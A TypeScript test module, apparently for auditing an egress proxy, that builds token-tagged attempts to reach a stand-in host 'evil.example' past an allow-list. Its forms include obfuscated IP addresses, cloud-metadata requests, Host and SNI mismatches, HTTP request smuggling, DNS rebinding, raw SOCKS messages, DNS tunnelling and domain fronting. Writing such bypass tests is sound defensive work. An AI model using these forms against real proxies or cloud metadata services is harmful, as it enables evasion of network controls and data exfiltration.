// Ways out of an egress policy that are tried for real: what each sends, and which are sent past the proxy.

/** One thing that is said on a connection, in order; what follows is sent once the one before was answered. */
export type Attempt =
  /** Bytes, to the proxy unless `to` names another place. `token` of the form stands in them. */
  | {
      readonly kind: "say";
      readonly parts: readonly string[];
      readonly to?: "tcp" | "tcp6" | "dns-tcp" | "socket" | "abstract";
    }
  /** A tunnel to `target`, and TLS in it that asks for `name` (none where empty); `inside` is said in TLS. */
  | {
      readonly kind: "tls";
      readonly target: string;
      readonly name: string;
      readonly inside?: string;
    }
  | { readonly kind: "udp"; readonly to: "udp" | "dns" }
  | { readonly kind: "follow"; readonly url: string }
  /** Hexadecimal messages of SOCKS, then bytes. */
  | { readonly kind: "socks"; readonly messages: readonly string[]; readonly last: string };

/** A form. `isControl`: it is allowed, and has to work. `isBeyond`: it cannot be seen without ending TLS. */
export type Form = {
  readonly id: string;
  readonly title: string;
  readonly attempt: Attempt;
  readonly isControl?: true;
  readonly isBeyond?: true;
};

/** The one host that both proxies allow, names that a list may allow as well, and where everything else leads. */
export const ALLOWED = "allowed.example";
export const REBINDING = "rebinding.example";
export const INSIDE = "inside.example";
export const BOTH = "both.example";
export const EVIL = "evil.example";
/** Addresses that the made-up resolver gives (RFC 5737, RFC 3849). */
export const FRONT_ADDRESS = "198.51.100.10";
export const EVIL_ADDRESS = "198.51.100.66";
export const EVIL_ADDRESS6 = "2001:db8::66";

const hex = (text: string): string => Buffer.from(text, "latin1").toString("hex");
const GREETING = "050100";

/** A request of SOCKS for a name and a port. */
function byName(name: string, port: number): string {
  return `05010003${name.length.toString(16).padStart(2, "0")}${hex(name)}${port.toString(16).padStart(4, "0")}`;
}

/** Every form, with a token of its own by which the sink knows it. */
export function escapeForms(tokenOf: (id: string) => string): readonly Form[] {
  const made: Form[] = [];
  const add = (
    id: string,
    title: string,
    attempt: (evil: string, token: string) => Attempt,
    more: Partial<Form> = {},
  ) => {
    const token = tokenOf(id);
    made.push({ id, title, attempt: attempt(`${token}.${EVIL}`, token), ...more });
  };
  const get = (url: string, host: string): string => `GET ${url} HTTP/1.1\r\nHost: ${host}\r\n`;
  const connect = (target: string): string =>
    `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`;
  const tls =
    (target: string, name?: string) =>
    (evil: string): Attempt => ({ kind: "tls", target, name: name ?? evil });
  const say = (...parts: readonly string[]): Attempt => ({ kind: "say", parts });
  const control = { isControl: true } as const;
  add(
    "control-tls",
    "a tunnel to the allowed host",
    () => ({ kind: "tls", target: `${ALLOWED}:443`, name: ALLOWED }),
    control,
  );
  add(
    "control-plain",
    "plain HTTP to the allowed host",
    () => say(`${get(`http://${ALLOWED}/`, ALLOWED)}\r\n`),
    control,
  );
  add("plain-http", "plain HTTP to another host", (evil) =>
    say(`${get(`http://${evil}/`, evil)}\r\n`),
  );
  add("connect-name", "CONNECT to another host", (evil) => ({
    kind: "tls",
    target: `${evil}:443`,
    name: evil,
  }));
  add("connect-address", "CONNECT to an address", tls(`${EVIL_ADDRESS}:443`));
  add("address-decimal", "an address as one number", tls("3325256770:443"));
  add("address-hex", "an address in hexadecimal", tls("0xc6336442:443"));
  add("address-octal", "an address in octal", tls("0306.063.0144.0102:443"));
  add("address-short", "an address with parts left out", tls("198.3368002:443"));
  add("ipv6", "CONNECT to an IPv6 address", tls(`[${EVIL_ADDRESS6}]:443`));
  add("ipv4-mapped", "an IPv4 address inside of an IPv6 one", tls(`[::ffff:${EVIL_ADDRESS}]:443`));
  add("loopback", "a port of the proxy's own machine", (_, token) =>
    say(connect("127.0.0.1:22"), token),
  );
  add("metadata", "the metadata service of clouds", (_, token) =>
    say(`${get(`http://169.254.169.254/${token}`, "169.254.169.254")}\r\n`),
  );
  add("other-port", "another port of the allowed host", (_, token) =>
    say(connect(`${ALLOWED}:22`), token),
  );
  add("other-sni", "a tunnel to the allowed host, another name in TLS", tls(`${ALLOWED}:443`));
  add("no-sni", "a tunnel to the allowed host, no name in TLS", tls(`${ALLOWED}:443`, ""));
  add("not-tls", "a tunnel to the allowed host, another protocol in it", (_, token) =>
    say(connect(`${ALLOWED}:443`), `SSH-2.0-${token}\r\n`),
  );
  add("other-host", "the allowed host, another one in `Host`", (evil) =>
    say(`${get(`http://${ALLOWED}/`, evil)}\r\n`),
  );
  add("two-hosts", "two `Host` headers", (evil) =>
    say(`${get(`http://${ALLOWED}/`, ALLOWED)}Host: ${evil}\r\n\r\n`),
  );
  add("tunnelled-host", "HTTP in a tunnel, another host in `Host`", (evil) =>
    say(connect(`${ALLOWED}:80`), `${get("/", evil)}\r\n`),
  );
  add("second-request", "a second request in the tunnel, to another host", (evil) =>
    say(connect(`${ALLOWED}:80`), `${get("/", ALLOWED)}\r\n`, `${get("/", evil)}\r\n`),
  );
  add("pipelined", "two requests at once, the second to another host", (evil) =>
    say(`${get(`http://${ALLOWED}/`, ALLOWED)}\r\n${get(`http://${evil}/`, evil)}\r\n`),
  );
  add("smuggled", "a request inside of another's body", (evil) => {
    const inner = `${get(`http://${evil}/`, evil)}\r\n`;
    return say(
      `POST http://${ALLOWED}/ HTTP/1.1\r\nHost: ${ALLOWED}\r\nContent-Length: ${inner.length + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${inner}`,
    );
  });
  add("userinfo", "`allowed@other` in an address", (evil) =>
    say(`${get(`http://${ALLOWED}@${evil}/`, ALLOWED)}\r\n`),
  );
  add("look-alike-start", "a host that begins like the allowed one", (evil) =>
    say(`${get(`http://${ALLOWED}.${evil}/`, `${ALLOWED}.${evil}`)}\r\n`),
  );
  add("look-alike-end", "a host that ends like the allowed one", (_, token) => ({
    kind: "tls",
    target: `${token}${ALLOWED}:443`,
    name: `${token}${ALLOWED}`,
  }));
  add("dot-and-case", "another host with a dot at its end, in capitals", (evil) => ({
    kind: "tls",
    target: `${evil.toUpperCase()}.:443`,
    name: evil,
  }));
  add("rebinding", "a listed name that leads elsewhere at the second look", (_, token) =>
    say(connect(`${REBINDING}:80`), `${get(`/${token}`, REBINDING)}\r\n`),
  );
  add("inside", "a listed name that leads into the network around", (_, token) =>
    say(connect(`${INSIDE}:80`), `${get(`/${token}`, INSIDE)}\r\n`),
  );
  add("both", "a listed name that leads outside and inside", (_, token) =>
    say(connect(`${BOTH}:80`), `${get(`/${token}`, BOTH)}\r\n`),
  );
  add("redirect", "a redirect of the allowed host", (_, token) => ({
    kind: "follow",
    url: `http://${ALLOWED}/redirect/${token}`,
  }));
  add("socks-address", "SOCKS5 to an address", (_, token) => ({
    kind: "socks",
    messages: [GREETING, "05010001c633644201bb"],
    last: token,
  }));
  add("socks-name", "SOCKS5 to another host", (evil, token) => ({
    kind: "socks",
    messages: [GREETING, byName(evil, 443)],
    last: token,
  }));
  add("socks-udp", "UDP by SOCKS5", (_, token) => ({
    kind: "socks",
    messages: [GREETING, "05030001000000000000"],
    last: token,
  }));
  add("socks4", "SOCKS4a to another host", (evil, token) => ({
    kind: "socks",
    messages: [`040101bb0000000100${hex(evil)}00`],
    last: token,
  }));
  add("direct", "a connection past the proxy", (_, token) => ({
    kind: "say",
    parts: [token],
    to: "tcp",
  }));
  add("direct-ipv6", "the same by IPv6", (_, token) => ({
    kind: "say",
    parts: [token],
    to: "tcp6",
  }));
  add("udp", "a datagram past the proxy", () => ({ kind: "udp", to: "udp" }));
  add("dns", "data in a name, asked of a resolver", () => ({ kind: "udp", to: "dns" }));
  add("dns-tcp", "the same over TCP", (_, token) => ({
    kind: "say",
    parts: [`\0\x1d${token}`],
    to: "dns-tcp",
  }));
  add("socket", "a socket of the file system", (_, token) => ({
    kind: "say",
    parts: [token],
    to: "socket",
  }));
  add("abstract", "an abstract socket", (_, token) => ({
    kind: "say",
    parts: [token],
    to: "abstract",
  }));
  add(
    "fronting",
    "the allowed host in TLS, another one in `Host` inside of it",
    (evil) => ({
      kind: "tls",
      target: `${ALLOWED}:443`,
      name: ALLOWED,
      inside: `${get("/", evil)}\r\n`,
    }),
    { isBeyond: true },
  );
  return made;
}
